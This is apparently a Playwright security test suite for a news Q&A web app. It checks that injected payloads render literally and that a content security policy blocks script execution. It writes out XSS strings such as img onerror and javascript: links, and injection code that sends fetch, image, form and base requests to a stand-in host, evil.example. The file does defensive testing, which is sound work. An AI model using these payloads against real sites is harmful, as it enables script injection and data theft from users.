"""Whatever a text holds, the window shows it literally: payloads in every place of it, in a real browser."""

import re
import unicodedata
from collections.abc import Callable, Iterable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path
from threading import Event
from typing import Any
from urllib.parse import urlencode

import pytest
from payloads import BIDI, CASES, FEW, PAYLOADS

pytest.importorskip("playwright.sync_api")

from browsing import ANSWER, IN_BROWSER, QUESTION, Visit, served, settled, until, visiting
from playwright.sync_api import Browser, Dialog, Frame, Page, expect
from support import PATIENCE_S

from index.types import Article, Filters, Source
from qa.models import Completion, Deadline, Message
from qa.models.scripted import ScriptedModel
from qa.newsdesk import Newsdesk
from qa.records.archive import AnswerArchive
from qa.server.security.guard import READER_COOKIE
from qa.types import Account, Answer, Citation, Disagreement, Holder, LeadIn, PeriodRead, Statement, Unverified

pytestmark = IN_BROWSER

GROUPS = [" ¦ ".join(CASES[at : at + 8]) for at in range(0, len(CASES), 8)]
LISTED = range(0, len(CASES), 9)
"""Of which a conversation of their own stands in the sidebar, which lists fifty."""
OWNER = "ada"

# The elements that our own code makes, and their attributes.
_OF_ANSWERS = {
    "div": "class", "p": "class role", "ol": "", "ul": "", "li": "value", "sup": "", "s": "", "strong": "",
    "a": "class href target rel download aria-label aria-describedby aria-current", "span": "class role id hidden",
    "button": "type class data-copy data-card", "details": "class", "summary": "", "mark": "class",
}  # fmt: skip
_OF_QUESTIONS = {"p": ""}
_OF_HISTORY = {"ul": "class", "li": "", "a": "href", "span": ""}
_OF_ARTICLES = {
    "main": "aria-label", "header": "", "footer": "", "h1": "", "p": "class", "b": "", "div": "class lang", "ul": "",
    "li": "", "span": "class id title", "mark": "id", "a": "class href target rel",
}  # fmt: skip
_OF_REPORTS = {"div": "class role", "p": "", "ul": "", "li": "", "b": ""}
# All others, and links to somewhere else.
_STRANGERS = """(roots, known) => roots.flatMap(root => [...root.querySelectorAll("*")]).filter(e =>
    !(e.localName in known) || e.getAttributeNames().some(name => !known[e.localName].split(" ").includes(name))
    || (e.localName === "a" && (e.className === "nd-out"
        ? !/^https?:[/][/]/.test(e.getAttribute("href")) || e.rel !== "noopener noreferrer nofollow"
        : !/^(source[?]article=|answers[/][0-9a-f]{32}[.]|[?]conversation=[0-9a-f]{32}$)/.test(e.getAttribute("href"))))
).map(e => e.outerHTML.slice(0, 300))"""
# Texts of the parts of answers; of a sentence without its markers, their cards, and what is said of a paraphrase.
_PARTS = """(answers, parts) => answers.map(answer => {
    const bare = answer.cloneNode(true);
    bare.querySelectorAll("sup, .nd-text .nd-note, .nd-basis").forEach(beside => beside.remove());
    return Object.fromEntries(parts.map(part => [part, [...bare.querySelectorAll(part)].map(e => e.textContent)]));
})"""
# Opens articles in a frame of the window, one after another, and tells what is in each.
_READ = f"""async ([addresses, known]) => {{
    const told = [], frame = document.body.appendChild(document.createElement("iframe"));
    for (const address of addresses) {{
        frame.src = address;
        await new Promise(done => frame.onload = done);
        const page = frame.contentDocument, texts = of => [...page.querySelectorAll(of)].map(e => e.textContent);
        told.push({{
            strangers: ({_STRANGERS})([page.body], known), head: [...page.head.children].map(e => e.localName),
            title: page.title, h1: texts("h1"), header: texts("header > p"), footer: texts("footer > p"),
            text: texts(".text"), marked: texts("mark").join(""), out: page.querySelector(".nd-out")?.href,
        }});
    }}
    frame.remove();
    return told;
}}"""
# Keeps which elements stand in the conversation at any time, in drafts too.
_REMEMBER = """() => {
    window.stood = new Set();
    new MutationObserver(() => document.querySelectorAll("#nd-chat .message-row .prose *").forEach(
        e => window.stood.add([e.localName, ...e.getAttributeNames()].join(" "))
    )).observe(document.querySelector("#nd-chat"), {childList: true, subtree: true});
}"""


def _visible(text: str) -> str:
    """What is to be seen of a text: U+FFFD where there is no character, or one that only changes others."""
    return "".join(
        "\ufffd"
        if (unicodedata.category(character) in ("Cc", "Cs") and character not in "\n\t")
        or character in f"{BIDI}\ufffe\uffff"
        else character
        for character in text.replace("\r\n", "\n")
    )


def _flat(text: str) -> str:
    """What is to be seen of it where white space is not kept."""
    return _visible(" ".join(text.split()))


def _dense(text: str) -> str:
    """A text without blanks and what stands for what cannot be shown: some characters are both."""
    return re.sub(r"[\s\ufffd]", "", text)


def _is_begun(shown: str, text: str) -> bool:
    """Is it the text, or its beginning with an ellipsis?"""
    whole = _flat(text)
    return shown == whole or (len(shown) > 2 and shown.endswith(" …") and whole.startswith(shown[:-2]))


def _article(name: str, payload: str) -> Article:
    text = f"The ferry {name} sank at noon off Quayside, {payload} was written on it.\n\n{payload}\n\n  {payload}  \n"
    about = Source(
        title=payload, outlet=f"{payload} Post", authors=(payload, payload), url=payload, agency=payload,
        correction=payload, rights=payload, language="en",
    )  # fmt: skip
    return Article(f"{name} {payload}", text, about)


def _file_names() -> list[str]:
    """Payloads as far as a file system takes them."""
    return [re.sub(r"[/\x00]", "", payload)[:60] for payload in FEW]


class _Obeying(ScriptedModel):
    """Writes a payload beside what it cites, and again when it is told that this will not do.

    Args:
        payload: What is written.
        ferry: The article to cite; any that tells of a ferry if it is empty.
        waits: Ends its answer only when `read` is set: by then its draft stands in the window.
    """

    def __init__(self, payload: str, ferry: str = "", *, waits: bool = False) -> None:
        super().__init__([self._write] * 4)
        self._payload, self._ferry, self._waits = payload, ferry, waits
        self.read = Event()

    def _write(self, messages: Sequence[Message]) -> str:
        if len(messages) == 1:  # asked what a question means on its own
            return self._payload
        given = re.search(rf"^\[(\w+\.\d+)\] (The ferry {self._ferry}.*)$", messages[1].content, re.MULTILINE)
        cited, sentence = (given[1], given[2]) if given else ("k3f.1", "The ferry sank.")
        return f"{sentence} [{cited}] The ferry sank at nine, {self._payload} said so. [{cited}]"

    def complete(
        self,
        messages: Sequence[Message],
        *,
        max_tokens: int,
        deadline: Deadline,
        on_text: Callable[[str], None] | None = None,
    ) -> Completion:
        done = super().complete(messages, max_tokens=max_tokens, deadline=deadline, on_text=on_text)
        if on_text and self._waits:
            assert self.read.wait(PATIENCE_S)
        return done


def _declined(answer: Answer, payload: str) -> Answer:
    """It without what it rests on: what was found is shown as the nearest passages."""
    nothing: dict[str, Any] = dict.fromkeys(("statements", "citations", "disagreements", "unverified"), ())
    return replace(answer, question=payload, text=payload, short=None, answered=False, **nothing)


def _loaded(answer: Answer, payload: str) -> Answer:
    """An answer with the payload in every field, as if every check had let it pass."""
    marker = len(answer.citations) + 1
    citation = Citation(
        marker, payload, payload, payload, payload, payload, payload, 0, 9, payload, payload, payload,
        LeadIn(0, 1, payload), (Holder(payload, payload, payload, payload, payload, payload, 0, 1),),
    )  # fmt: skip
    return replace(
        answer, question=f"{payload} {answer.question} {payload}", standalone_question=payload, answered=True,
        filters=Filters(outlets=(payload,)), period=PeriodRead(payload, "2025-03-20", None, "filter"), text=payload,
        short=payload, citations=(*answer.citations, citation), fallback=payload, model=payload, answerer="model",
        statements=(*answer.statements, Statement(payload, "supported", (marker,), citation_verdicts=("supported",))),
        disagreements=(Disagreement(payload, (Account(payload, marker, payload, payload),) * 2),),
        unverified=(*answer.unverified, Unverified(payload, "unsupported", payload, 1, (payload,))),
    )  # fmt: skip


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Newsdesk]:
    """An archive with an article for each payload, for each group of them, and of files that are named so."""
    folder = tmp_path_factory.mktemp("payloads")
    for number, name in enumerate(_file_names()):
        (folder / f"file{number} {name}.txt").write_text(f"The barge b{number} was laden at Redmere.", encoding="utf-8")
    with Newsdesk.open(folder / "corpus") as opened:
        report = opened.add(
            *(_article(f"q{number}", payload) for number, payload in enumerate(CASES)),
            *(_article(f"g{number}", payloads) for number, payloads in enumerate(GROUPS)),
            *sorted(folder.glob("file*.txt")),
        )
        assert (report.added, report.skipped) == (len(CASES) + len(GROUPS) + len(FEW), [])
        yield opened


@pytest.fixture(scope="module")
def answers(desk: Newsdesk) -> list[Answer]:
    """An answer about each payload's article, by turns quoted and written by a model, and then loaded with more."""
    given = []
    for number, payload in enumerate(CASES):
        desk.model = _Obeying(payload, f"q{number}")
        given.append(
            desk.ask(
                f"Which ferry, q{number}, sank at noon off Quayside?", record=False,
                filters=Filters(article_ids=(f"q{number} {payload}",)), answerer=("model", "extractive")[number % 2],
            )
        )  # fmt: skip
    desk.model = None
    assert sum(answer.answered for answer in given) > 0.9 * len(CASES)
    return list(map(_loaded, given, CASES))


@pytest.fixture(scope="module")
def address(desk: Newsdesk) -> Iterator[str]:
    with served(desk) as url:
        yield url


@contextmanager
def _watching(browser: Browser, address: str) -> Iterator[Visit]:
    """A visit in which nothing may lead away, and nothing may open a window or save a file by itself either."""
    with visiting(browser, address, anew=True) as opened:

        def left(frame: Frame) -> None:
            if not frame.url.startswith((address, "about:blank")):
                opened.faults.append(f"left for {frame.url}")

        def refuse(dialog: Dialog) -> None:
            opened.faults.append(f"asked {dialog.message}")
            dialog.dismiss()  # else the page would stand still

        def watch(page: Page) -> None:
            page.on("dialog", refuse)
            page.on("framenavigated", left)
            page.on("popup", lambda popup: opened.faults.append(f"opened {popup.url}"))
            page.on("download", lambda download: opened.faults.append(f"saved {download.url}"))

        opened.context.on("page", watch)
        yield opened
        assert not opened.faults, opened.faults


@pytest.fixture
def visit(browser: Browser, address: str) -> Iterator[Visit]:
    with _watching(browser, address) as opened:
        yield opened


@pytest.fixture(scope="module")
def window(browser: Browser, address: str) -> Iterator[Page]:
    """A window in which tests open frames and change nothing else."""
    with _watching(browser, address) as opened:
        yield opened.open()


def _strangers(page: Page, selector: str, known: dict[str, str]) -> list[str]:
    assert page.locator(selector).count(), selector
    found: list[str] = page.locator(selector).evaluate_all(_STRANGERS, known)
    return found


def _read(page: Page, addresses: Iterable[str]) -> list[dict[str, Any]]:
    told: list[dict[str, Any]] = page.evaluate(_READ, [list(addresses), _OF_ARTICLES])
    for each in told:
        assert each["strangers"] == []
        assert each["head"] == ["meta", "meta", "meta", "title", "link"]
    return told


def test_there_are_enough_payloads_and_none_stands_twice() -> None:
    assert len(CASES) >= 200
    assert len(set(CASES)) == len(CASES)


def test_an_answer_with_a_payload_in_every_field_shows_it_literally(
    visit: Visit, desk: Newsdesk, answers: list[Answer], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("os.fsync", lambda _: None)  # hundreds of lines are kept, of which none has to last
    monkeypatch.setattr(AnswerArchive, "_held_back", lambda *_: set())  # as if articles were there that payloads name
    nearest = [_declined(answer, payload) for answer, payload in zip(answers, CASES, strict=True) if payload in FEW]
    records = [desk.records.append(answer) for answer in [*answers, *nearest]]
    for number in LISTED:
        desk.conversations.keep(OWNER, records[number])
    conversation = None
    for record in records:
        conversation = desk.conversations.keep(OWNER, record, conversation)
    visit.context.add_cookies([{"name": READER_COOKIE, "value": OWNER, "url": visit.address}])
    page = visit.open(f"?conversation={conversation}")
    settled(page, len(records))
    assert _strangers(page, ANSWER, _OF_ANSWERS) == []
    assert _strangers(page, ".user .prose", _OF_QUESTIONS) == []
    asked = page.locator(".user .prose").all_text_contents()
    assert [text.strip() for text in asked] == [_flat(answer.question) for answer in [*answers, *nearest]]
    _check_parts(page, answers)
    _check_cards(page)
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    page.locator("#nd-side button", has_text="Earlier conversations").click()  # by role takes long beside so much text
    page.wait_for_selector(".nd-history")
    assert _strangers(page, ".nd-history", _OF_HISTORY) == []
    shown = page.locator(".nd-history a").all_text_contents()
    for text, number in zip(shown, [0, *reversed(LISTED)], strict=True):
        assert _is_begun(text, answers[number].question)


def _check_parts(page: Page, answers: Sequence[Answer]) -> None:
    parts = [".nd-text", ".nd-short", ".nd-refused s", ".nd-refused s + span", ".nd-differ strong"]
    heads = [".nd-note", ".nd-differ .nd-head", ".nd-checked summary", ".nd-open", ".nd-used .nd-by"]
    shown = page.locator(ANSWER).evaluate_all(_PARTS, [*parts, *heads])
    nearest = shown[len(CASES) :]
    assert sum(bool(told[".nd-open"]) for told in nearest) > 0.9 * len(nearest)
    for told, payload in zip(nearest, filter(FEW.__contains__, CASES), strict=True):
        assert told[".nd-text"] == [_flat(payload)]
        assert all(_is_begun(title, payload) for title in told[".nd-open"])
    for given, payload, told in zip(answers, CASES, shown[: len(CASES)], strict=True):
        literal = _flat(payload)
        told[".nd-text"] = [text.replace("  ", " ") for text in told[".nd-text"]]  # around what was taken out
        assert [told[part] for part in parts] == [
            [" ".join(_flat(statement.text) for statement in given.statements)],
            [literal],
            [_flat(refused.text) for refused in given.unverified],
            [_flat(refused.reason) for refused in given.unverified],
            [literal, literal],
        ]
        assert told[".nd-differ .nd-head"] == [f"Accounts differ on {literal}"]
        assert {f"Understood as: {literal}", f"Quoted, not written by a model: {literal}"} <= set(told[".nd-note"])
        assert literal in told[".nd-checked summary"][0]
        assert literal in told[".nd-used .nd-by"][-1]
        assert all(_is_begun(title, payload) for title in told[".nd-open"])
    labels = page.locator(f"{ANSWER} .nd-differ a").evaluate_all("all => all.map(a => a.getAttribute('aria-label'))")
    assert all(_flat(payload) in label for payload, label in zip(CASES, labels[::2], strict=True))
    out = page.locator(f"{ANSWER}:has(.nd-out)").count()
    assert out == sum(
        re.fullmatch(r"(?i)https?://[^\s\"'<>`\[\ufffd\u202e]+|http://\[::1\]:1/", p) is not None for p in CASES
    )


def _check_cards(page: Page) -> None:
    for number in range(0, len(CASES), 40):
        page.locator(ANSWER).nth(number).locator(".nd-text a").last.dispatch_event("mouseover")
        assert _strangers(page, ".nd-card.nd-shown", _OF_ANSWERS) == []
        assert _flat(CASES[number])[:100] in page.inner_text(".nd-card.nd-shown .nd-quote")


_SCROLLED = """async list => {
    const shown = new Set();
    for (let at = 0; at <= list.scrollHeight; at += list.clientHeight / 2) {
        list.scrollTop = at;
        await new Promise(done => requestAnimationFrame(() => setTimeout(done)));
        list.querySelectorAll("[role=option]").forEach(option => shown.add(option.textContent));
    }
    return [...shown];
}"""


def test_filters_list_outlets_literally(browser: Browser, tmp_path: Path) -> None:
    outlets = list(dict.fromkeys([*FEW, *PAYLOADS["bidi"], "__proto__", "constructor", "common.submit"]))
    articles = (Article(f"a{n}", "The ferry sank.", Source(outlet=outlet)) for n, outlet in enumerate(outlets))
    with Newsdesk.open(tmp_path / "corpus") as desk:
        desk.add(*articles)
        with served(desk) as url, visiting(browser, url) as visit:
            page = visit.open()
            page.get_by_label("Outlets").click()
            page.wait_for_selector("[role=option]")
            tags = page.locator("[role=listbox] *").evaluate_all(
                "all => [...new Set(all.map(e => e.localName))].sort()"
            )
            assert tags == ["li", "span"]
            shown = page.locator("[role=listbox]").evaluate(_SCROLLED)  # those out of sight are not there
            texts = {_dense(text.replace("✓", "")) for text in shown}
            assert [name for name in outlets if not any(text.startswith(_dense(_flat(name))) for text in texts)] == []
            assert not visit.faults, visit.faults


def test_articles_made_of_payloads_show_them_literally(window: Page) -> None:
    names = [f"g{number} {payloads}" for number, payloads in enumerate(GROUPS)]
    for name, payloads, told in zip(names, GROUPS, _read(window, map(_address, names)), strict=True):
        literal, article = _flat(payloads), _article(name.split()[0], payloads)
        assert (told["title"], told["h1"]) == (literal, [literal])
        assert told["text"] == [_visible(article.text)]
        assert told["header"][0].count(literal) == 4  # outlet, two authors, agency
        assert told["header"][1:] == [f"Correction: {literal}"]
        assert _flat(name) in told["footer"][0]
        assert told["footer"][1] == literal


def _address(article_id: str, **places: tuple[int, int]) -> str:
    return f"source?{urlencode({'article': article_id, **{n: f'{s}-{e}' for n, (s, e) in places.items()}})}"


def test_a_citation_is_marked_exactly_in_an_article_made_of_payloads(window: Page, answers: list[Answer]) -> None:
    # The last citation is the one that it was loaded with.
    cited = [a.citations[0] for a, payload in zip(answers, CASES, strict=True) if payload in FEW and a.citations[1:]]
    read = _read(window, [_address(c.article_id, quote=(c.start, c.end), passage=(0, c.end + 2)) for c in cited])
    for citation, told in zip(cited, read, strict=True):
        assert told["marked"] == _visible(citation.quote)
        assert bool(told["out"]) == bool(re.match("https?://", str(citation.url)))


def test_a_version_that_is_not_there_brings_no_markup(visit: Visit) -> None:
    page = visit.context.new_page()
    for number, payload in enumerate(CASES[::16]):
        version = urlencode({"version": payload})
        page.goto(f"{visit.address}{_address(f'q{16 * number} {payload}')}&{version}")
        assert page.inner_text(".notice").startswith("This version of the article is not kept any more")
        assert _strangers(page, "body", _OF_ARTICLES) == []


def test_articles_named_after_files_show_the_names_literally(window: Page, desk: Newsdesk) -> None:
    ids = [row.article_id for row in desk.articles() if row.article_id.startswith("file")]
    assert len(ids) == len(FEW)
    for article_id, told in zip(ids, _read(window, map(_address, ids)), strict=True):
        assert _flat(article_id) in told["footer"][0]


def test_names_of_dropped_files_are_shown_literally(visit: Visit) -> None:
    page = visit.open()
    names = [f"{name}.bin" for name in _file_names() if name.isprintable()][:20]  # that many are told of
    page.evaluate(
        """names => {
            const data = new DataTransfer();
            names.forEach(name => data.items.add(new File([new Uint8Array([1, 2, 3])], name)));
            document.body.dispatchEvent(new DragEvent("drop", {dataTransfer: data, bubbles: true, cancelable: true}));
        }""",
        names,
    )
    page.wait_for_selector(".nd-report li")
    assert _strangers(page, ".nd-report", _OF_REPORTS) == []
    told = page.locator(".nd-report b").all_text_contents()
    # Gradio keeps letters, digits and little else of a name.
    assert [re.sub(r"\W", "", name) for name in told] == [re.sub(r"\W", "", name) for name in names]


def test_payloads_typed_and_written_are_literal_from_the_draft_on(visit: Visit, desk: Newsdesk) -> None:
    desk.model = _Obeying("")
    page = visit.open()
    page.evaluate(_REMEMBER)
    typed = [payload for payload in FEW if len(payload) < 400]
    groups = [typed[at : at + 10] for at in range(0, len(typed), 10)]
    questions = []
    for number, group in enumerate([*groups, ["W" * 1500]]):
        joined = " ¦ ".join(group)
        questions.append(f"Which ferry sank at noon off Quayside? {joined}")
        desk.model = model = _Obeying(joined, waits=True)
        page.fill(QUESTION, questions[-1])
        page.press(QUESTION, "Enter")
        expect(page.locator(".nd-draft")).to_contain_text("said so.")
        assert _flat(joined) in page.locator(".nd-draft").all_text_contents()[0]
        model.read.set()
        settled(page, number + 1)
    assert [text.strip() for text in page.locator(".user .prose").all_text_contents()] == list(map(_flat, questions))
    assert _strangers(page, ANSWER, _OF_ANSWERS) == []
    for element, *attributes in map(str.split, page.evaluate("[...window.stood]")):
        assert set(attributes) <= set(_OF_ANSWERS[element].split()), element
    page.get_by_role("button", name="Edit last question").click()
    expect(page.locator(QUESTION)).to_have_value(questions[-1])


def test_what_cannot_be_asked_is_told_literally(visit: Visit, desk: Newsdesk) -> None:
    desk.model = None
    page = visit.open("?" + urlencode({"conversation": "</script><script>alert(1)</script>", "x": "{@html 1}"}))
    page.locator(QUESTION).evaluate(
        """box => {
            box.value = "Which ferry sank \\ud800 at noon off Quayside?";
            box.dispatchEvent(new Event("input", {bubbles: true}));
        }"""
    )
    page.press(QUESTION, "Enter")
    settled(page, 1)
    assert re.match(r"Which ferry sank [?\ufffd]+ at noon", page.inner_text(".user .prose"))
    for payload in ("<img src=x onerror=alert(1)>", "[x](javascript:alert(1))"):
        page.get_by_role("textbox", name="From", exact=True).fill(payload)
        page.fill(QUESTION, payload)
        page.press(QUESTION, "Enter")
        expect(page.locator(".nd-notice")).to_contain_text(payload)
        assert _strangers(page, "#nd-chat .bot .prose", _OF_ANSWERS) == []
        assert page.input_value(QUESTION) == payload


def test_the_name_of_a_model_is_shown_literally(visit: Visit, desk: Newsdesk) -> None:
    name = "<img src=x onerror=alert(1)> **x** [x](javascript:alert(1))"
    desk.model = ScriptedModel([], name=name)
    page = visit.open()
    expect(page.get_by_role("radio")).to_have_count(2)
    assert name in page.inner_text("#nd-side")
    assert page.locator("#nd-side :is(img, strong, a)").count() == 0


_RUNS = """async () => {
    window.ran = [];
    const ways = document.body.appendChild(document.createElement("div"));
    ways.innerHTML = `<img src="newsdesk/none" onerror="ran.push('img')"><svg onload="ran.push('svg')"></svg>
        <a href="javascript:ran.push('link')">x</a><iframe src="javascript:parent.ran.push('frame')"></iframe>
        <iframe srcdoc="<script>parent.ran.push('srcdoc')</script>"></iframe>`;
    const script = document.createElement("script");
    script.textContent = "ran.push('script')";
    ways.append(script);
    ways.querySelector("a").click();
    setTimeout("ran.push('timer')", 0);
    try { await fetch("http://evil.example/fetch"); window.ran.push("fetch"); } catch {}
    ways.insertAdjacentHTML("beforeend", `<img src="http://evil.example/img"><link rel=stylesheet
        href="http://evil.example/css"><iframe src="http://evil.example/frame"></iframe><object
        data="http://evil.example/object"></object><form action="http://evil.example/form"><button></button></form>
        <base href="http://evil.example/">`);
    ways.querySelector("button").click();
    return document.baseURI;
}"""


_STOPPED = (
    "event handler", "JavaScript URL", "inline script", "string as JavaScript", "evil.example/fetch",
    "evil.example/img", "evil.example/css", "evil.example/object", "evil.example/form",
    "Framing 'http://evil.example/'",
)  # fmt: skip


def test_content_security_policy_stops_what_got_past_all_escaping(browser: Browser, address: str) -> None:
    with visiting(browser, address) as visit:
        window, article = visit.open(), visit.context.new_page()
        article.on("console", lambda message: visit.faults.append(message.text))
        article.goto(address + _address(f"g0 {GROUPS[0]}"))
        for page in (window, article):
            assert visit.faults == []
            assert page.evaluate(_RUNS) == page.url
            until(page, lambda: all(any(what in fault for fault in visit.faults) for what in _STOPPED))
            assert page.evaluate("window.ran") == []
            page.close()
            visit.faults.clear()  # they are what was to be seen
